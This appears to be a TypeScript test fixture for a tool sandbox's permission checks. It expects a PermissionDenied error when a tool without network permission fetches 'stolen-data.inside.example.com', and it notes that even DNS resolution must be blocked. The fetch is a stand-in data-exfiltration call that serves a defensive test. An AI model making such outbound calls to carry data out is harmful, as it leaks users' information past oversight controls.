/**
 * A tool without any permission requests a host. The name must not even be resolved, because a DNS
 * query carries data out like any request.
 *
 * status: error
 * error_code: PermissionDenied
 * message: permissions.net
 * never_asked: stolen-data.inside.example.com
 */
export async function execute(): Promise<number> {
  return (await fetch("http://stolen-data.inside.example.com/")).status;
}
